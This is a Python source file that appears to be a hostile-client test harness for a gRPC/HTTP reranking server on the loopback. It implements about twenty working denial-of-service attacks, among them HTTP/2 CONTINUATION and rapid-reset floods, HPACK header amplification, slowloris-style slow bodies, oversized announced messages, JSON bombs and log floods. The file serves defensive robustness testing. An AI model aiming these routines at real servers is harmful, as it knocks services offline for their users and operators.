"""Has what a hostile client does, each attack for some seconds, against a server that listens on the loopback.

    attacks.py NAME JSON

JSON is an object: grpc_port, http_port, token (of a client that may search and administrate, for the attacks that need
one), seconds, and what single attacks want. It attacks for so many seconds, and further until its standard input ends. A
program of its own, so that the attacker does not slow down who measures. Prints what it did as one line of JSON.
"""

import json
import select
import socket
import sys
import time

import http2
from http2 import CANCEL, CONTINUATION, DATA, END_HEADERS, FRAME_BYTES, HEADERS, RST_STREAM, frame

RERANK = "/maxsim.v1.Reranker/Rerank"
RERANK_STREAM = "/maxsim.v1.Reranker/RerankStream"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
MIB = 1 << 20


class Attacker:
    def __init__(self, options):
        self.grpc_port = options["grpc_port"]
        self.http_port = options["http_port"]
        self.token = options.get("token", "")
        self.seconds = options["seconds"]
        self.options = options
        self.end = time.monotonic() + self.seconds

    def running(self):
        return time.monotonic() < self.end or not select.select([sys.stdin], [], [], 0)[0]

    def authorization(self):
        return [("authorization", f"Bearer {self.token}")]

    def connect(self, **arguments):
        """Returns a connection to the gRPC port, or None where the server takes none."""
        try:
            return http2.Connection(self.grpc_port, **arguments)
        except OSError:
            time.sleep(0.05)
            return None


def idle_connections(attacker, port, count=200):
    """Opens connections that say nothing, far more than the server has descriptors; those that it closes come again."""
    sockets, opened = [], 0
    while attacker.running():
        while len(sockets) < count and attacker.running():
            try:
                sockets.append(socket.create_connection(("127.0.0.1", port), timeout=0.2))
                opened += 1
            except OSError:
                break
        alive = []
        for one in sockets:
            one.setblocking(False)
            try:
                if one.recv(1) == b"":
                    one.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                one.close()
                continue
            alive.append(one)
        sockets = alive
        time.sleep(0.05)
    return {"connections": opened, "open_at_the_end": len(sockets)}


def idle_grpc(attacker):
    return idle_connections(attacker, attacker.grpc_port)


def idle_http(attacker):
    return idle_connections(attacker, attacker.http_port)


def flood(attacker, begin, more):
    """Calls begin(connection), then more(connection) until the server closes; then again, on a new connection."""
    sent, connections, why = 0, 0, None
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        connections += 1
        try:
            begin(connection)
            while attacker.running() and connection.pump():
                sent += more(connection)
        except OSError as error:
            why = repr(error)
        why = connection.closed or why
        connection.close()
        time.sleep(0.01)
    return {"sent_bytes": sent, "connections": connections, "closed": why}


def nothing(_connection):
    """Does nothing, for attacks that come before a first call."""


def healthy_call(connection):
    """Calls the health service, which needs no token, and waits for its answer."""
    connection.send_headers(1, http2.grpc_header_block(HEALTH_CHECK))
    connection.send(frame(DATA, http2.END_STREAM, 1, http2.grpc_prefix(0)))
    until = time.monotonic() + 1
    while 1 not in connection.ended and time.monotonic() < until and connection.pump(0.05):
        pass


def continuation_flood(attacker, before=nothing):
    """Sends a header block that never ends, in frames of 16 KiB."""
    fields = http2.hpack_literal("abcd", "efgh") * (16000 // 12)
    batch = frame(CONTINUATION, 0, 3, fields) * 8

    def begin(connection):
        before(connection)
        connection.send(frame(HEADERS, 0, 3, http2.grpc_header_block(RERANK)))

    def more(connection):
        connection.send(batch)
        return len(batch)

    return flood(attacker, begin, more)


def continuation_flood_after_health(attacker):
    """Sends a header block that never ends, on a connection whose first call was answered."""
    return continuation_flood(attacker, healthy_call)


def indexed_headers(attacker):
    """Sends header blocks that name one remembered field hundreds of thousands of times, while the server's SETTINGS,
    which bound header lists, are never acknowledged."""
    block = http2.grpc_header_block(HEALTH_WATCH) + http2.hpack_literal("a", "v", indexed=True) + b"\xbe" * 400_000
    sent, connections = 0, 0
    while attacker.running():
        connection = attacker.connect(acknowledge=False)
        if connection is None:
            continue
        connections += 1
        try:
            for stream in range(1, 200, 2):
                if not attacker.running() or not connection.pump():
                    break
                connection.send_headers(stream, block)
                connection.send(frame(DATA, 0, stream, http2.grpc_prefix(0)))
                sent += len(block)
            while attacker.running() and connection.pump(0.1):
                pass
        except OSError:
            pass
        connection.close()
        time.sleep(0.01)
    return {"sent_bytes": sent, "connections": connections}


def rapid_resets(attacker, path=RERANK, extra=(), before=nothing):
    """Cancels calls as soon as they have begun."""
    block = http2.grpc_header_block(path, extra)

    def begin(connection):
        before(connection)
        connection.next_stream = 3

    def more(connection):
        batch = bytearray()
        for _ in range(200):
            stream = connection.next_stream
            connection.next_stream += 2
            batch += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
        connection.send(bytes(batch))
        return len(batch)

    return flood(attacker, begin, more)


def rapid_resets_with_token(attacker):
    """Cancels a known client's calls as soon as they have begun."""
    return rapid_resets(attacker, extra=attacker.authorization())


def rapid_resets_of_health(attacker):
    """Cancels calls that need no token as soon as they have begun."""
    return rapid_resets(attacker, HEALTH_CHECK, before=healthy_call)


def send_message(attacker, connection, stream, announced_bytes, num_bytes, fill=b"\x1a"):
    """Sends a part of a message as fast as the windows open. Returns the bytes that have gone."""
    prefix, sent = http2.grpc_prefix(announced_bytes), 0
    chunk = fill * FRAME_BYTES
    while sent < num_bytes and attacker.running() and stream not in connection.ended:
        if connection.window(stream) < FRAME_BYTES:
            if not connection.pump(0.05):
                break
            continue
        payload = (prefix + chunk)[:FRAME_BYTES] if sent == 0 else chunk
        connection.send_data(stream, payload)
        sent += len(payload)
        if sent % (16 * FRAME_BYTES) == 0 and not connection.pump():
            break
    return sent


def announced_message(attacker, path=RERANK):
    """Announces messages of 3 GiB, which no limit of the server allows."""
    sent, connections = 0, 0
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        connections += 1
        try:
            connection.send_headers(1, http2.grpc_header_block(path))
            sent += send_message(attacker, connection, 1, 3 << 30, 1536 * MIB)
        except OSError:
            pass
        connection.close()
        time.sleep(0.01)
    return {"sent_bytes": sent, "connections": connections}


def announced_message_to_health(attacker):
    """Announces messages of 3 GiB to the one method that needs no token."""
    return announced_message(attacker, HEALTH_CHECK)


def unfinished_messages(attacker, count=60, num_bytes=60 * MIB, authorized=False):
    """Sends messages of an allowed size whose last bytes never come, on as many connections."""
    block = http2.grpc_header_block(RERANK, attacker.authorization() if authorized else ())
    open_connections, sent = {}, 0
    while attacker.running():
        if len(open_connections) < count:
            connection = attacker.connect()
            if connection is not None:
                try:
                    connection.send_headers(1, block)
                    open_connections[connection] = 0
                except OSError:
                    connection.close()
        for connection in list(open_connections):
            try:
                if not connection.pump() or 1 in connection.ended:
                    raise OSError("closed")
                while open_connections[connection] < num_bytes and connection.window(1) >= FRAME_BYTES:
                    first = open_connections[connection] == 0
                    payload = (http2.grpc_prefix(64 * MIB) if first else b"") + b"\x1a" * FRAME_BYTES
                    connection.send_data(1, payload[:FRAME_BYTES])
                    open_connections[connection] += FRAME_BYTES
                    sent += FRAME_BYTES
            except OSError:
                connection.close()
                del open_connections[connection]
        if all(bytes_sent >= num_bytes for bytes_sent in open_connections.values()):
            time.sleep(0.01)
    return {"sent_bytes": sent, "open_at_the_end": len(open_connections)}


def unfinished_messages_with_token(attacker):
    """Sends a known client's messages whose last bytes never come: it may fill what the server has for requests, and no
    more. Its connections are fewer than descriptors, since nothing takes one from a known client."""
    return unfinished_messages(attacker, count=20, authorized=True)


def open_streams(attacker, path, extra=(), count=4096):
    """Opens streams that are never used."""
    opened, connections = 0, 0
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        connections += 1
        try:
            for i in range(count):
                connection.send_headers(1 + 2 * i, http2.grpc_header_block(path, extra))
                opened += 1
                if i % 64 == 0 and not (attacker.running() and connection.pump()):
                    break
            while attacker.running() and connection.pump(0.1):
                pass
        except OSError:
            pass
        connection.close()
        time.sleep(0.01)
    return {"streams": opened, "connections": connections}


def reflection_streams(attacker):
    """Opens 4,096 streams of reflection, with the token that it wants."""
    return open_streams(attacker, REFLECTION, attacker.authorization())


def reflection_streams_without_token(attacker):
    """Opens 4,096 streams of reflection."""
    return open_streams(attacker, REFLECTION)


def health_watches(attacker):
    """Opens thousands of watches of the health service, which needs no token."""
    block = http2.grpc_header_block(HEALTH_WATCH)
    opened = 0
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        try:
            for i in range(20_000):
                connection.send_headers(1 + 2 * i, block)
                connection.send(frame(DATA, http2.END_STREAM, 1 + 2 * i, http2.grpc_prefix(0)))
                opened += 1
                if i % 64 == 0 and not (attacker.running() and connection.pump()):
                    break
            while attacker.running() and connection.pump(0.1):
                pass
        except OSError:
            pass
        connection.close()
        time.sleep(0.01)
    return {"streams": opened}


def unread_answers(attacker):
    """Pipelines a known client's requests with large answers over streams and reads none of the answers."""
    with open(attacker.options["large_request"], "rb") as file:
        message = file.read()
    block = http2.grpc_header_block(RERANK_STREAM, attacker.authorization())
    body = http2.grpc_prefix(len(message)) + message
    sent, requests = 0, 0
    while attacker.running():
        # The server may send nothing on a stream whose window is 0, and the window of the connection is never raised.
        connection = attacker.connect(own_settings={http2.INITIAL_WINDOW_SIZE: 0})
        if connection is None:
            continue
        try:
            streams = [1 + 2 * i for i in range(16)]
            for stream in streams:
                connection.send_headers(stream, block)
            while attacker.running() and connection.pump(0.01):
                for stream in streams:
                    if stream in connection.ended or connection.window(stream) < len(body):
                        continue
                    for i in range(0, len(body), FRAME_BYTES):
                        connection.send_data(stream, body[i : i + FRAME_BYTES])
                    sent += len(body)
                    requests += 1
        except OSError:
            pass
        connection.close()
    return {"sent_bytes": sent, "requests": requests}


def http_request(port, head, body=b"", timeout_s=10.0):
    """Returns the status of the answer, or 0 when there is none."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout_s) as one:
            one.sendall(head + body)
            answer = one.recv(65536)
            return int(answer.split()[1]) if answer else 0
    except OSError:
        return 0


def json_bombs(attacker, count=4):
    """Sends a known client's bodies that are hard to parse: millions of empty objects, deep nesting, members without
    end."""
    flat = b'{"documents":[' + b"{}," * 2_600_000 + b"{}]}"
    deep = b'{"query":' + b"[" * 4_000_000 + b"]" * 4_000_000 + b"}"
    members = b"{" + b",".join(b'"k%d":{}' % i for i in range(600_000)) + b"}"
    bodies = [flat, deep, members]
    sockets, sent, i = [], 0, 0
    while attacker.running():
        if len(sockets) >= count:
            sockets = [one for one in sockets if not answered(one)]
            time.sleep(0.01)
            continue
        body = bodies[i % len(bodies)]
        i += 1
        head = f"POST /v1/rerank HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n"
        head += f"Authorization: Bearer {attacker.token}\r\n\r\n"
        try:
            one = socket.create_connection(("127.0.0.1", attacker.http_port), timeout=5)
            one.sendall(head.encode() + body)
            sockets.append(one)
            sent += len(body)
        except OSError:
            time.sleep(0.05)
    return {"sent_bytes": sent, "bodies": i}


def answered(one):
    """Closes a socket on which an answer, or the end, has come."""
    one.setblocking(False)
    try:
        one.recv(65536)
    except BlockingIOError:
        return False
    except OSError:
        pass
    one.close()
    return True


def slow_bodies(attacker, count=80):
    """Sends HTTP requests whose heads and bodies come a byte at a time."""
    head = f"POST /v1/rerank HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\nAuthorization: Bearer {attacker.token}\r\n\r\n"
    sockets, opened = [], 0
    while attacker.running():
        while len(sockets) < count and attacker.running():
            try:
                one = socket.create_connection(("127.0.0.1", attacker.http_port), timeout=0.2)
                one.sendall(head.encode() if opened % 2 == 0 else b"P")
                sockets.append((one, b" " if opened % 2 == 0 else b"O"))
                opened += 1
            except OSError:
                break
        alive = []
        for one, byte in sockets:
            try:
                one.sendall(byte)
                alive.append((one, byte))
            except OSError:
                one.close()
        sockets = alive
        time.sleep(0.1)
    return {"connections": opened, "open_at_the_end": len(sockets)}


def log_flood(attacker):
    """Sends calls with metadata that gRPC complains of, a megabyte each: what a client sent must not fill the log."""
    block = http2.grpc_header_block(RERANK, te="x" * MIB)
    small = http2.grpc_header_block(RERANK, te="x" * 400)
    sent, calls = 0, 0
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        try:
            for i in range(50):
                one = block if i == 49 else small
                connection.send_headers(1 + 2 * i, one, END_HEADERS | http2.END_STREAM)
                sent += len(one)
                calls += 1
                if not connection.pump():
                    break
            connection.pump(0.02)
        except OSError:
            pass
        connection.close()
    return {"sent_bytes": sent, "calls": calls}


def sparse_loads(attacker):
    """Loads, for a known client, a collection with a shard of terabytes that are a hole, again and again, and gives
    up."""
    body = http2.hpack_string  # a protobuf string has a length of the same form below 127 bytes
    path = attacker.options["sparse_collection"].encode()
    calls = 0
    block = http2.grpc_header_block("/maxsim.v1.Admin/LoadCollection", attacker.authorization())
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        try:
            for i in range(8):
                name = b"sparse-%d" % (calls % 64)
                message = b"\x0a" + body(name) + b"\x12" + body(path)
                connection.send_headers(1 + 2 * i, block)
                connection.send_data(1 + 2 * i, http2.grpc_prefix(len(message)) + message, end=True)
                calls += 1
            connection.pump(0.2)
            for i in range(8):
                connection.send(frame(RST_STREAM, 0, 1 + 2 * i, CANCEL))
        except OSError:
            pass
        connection.close()
    return {"calls": calls}


ATTACKS = {
    attack.__name__: attack
    for attack in (
        idle_grpc,
        idle_http,
        continuation_flood,
        continuation_flood_after_health,
        indexed_headers,
        rapid_resets,
        rapid_resets_of_health,
        rapid_resets_with_token,
        announced_message,
        announced_message_to_health,
        unfinished_messages,
        unfinished_messages_with_token,
        reflection_streams,
        reflection_streams_without_token,
        health_watches,
        unread_answers,
        json_bombs,
        slow_bodies,
        log_flood,
        sparse_loads,
    )
}

# A client with a token is trusted not to do this (SECURITY.md): gRPC 1.51 has no bound of its own for it.
TRUSTED_NOT_TO = {"rapid_resets_with_token"}


if __name__ == "__main__":
    print(json.dumps(ATTACKS[sys.argv[1]](Attacker(json.loads(sys.argv[2])))), flush=True)
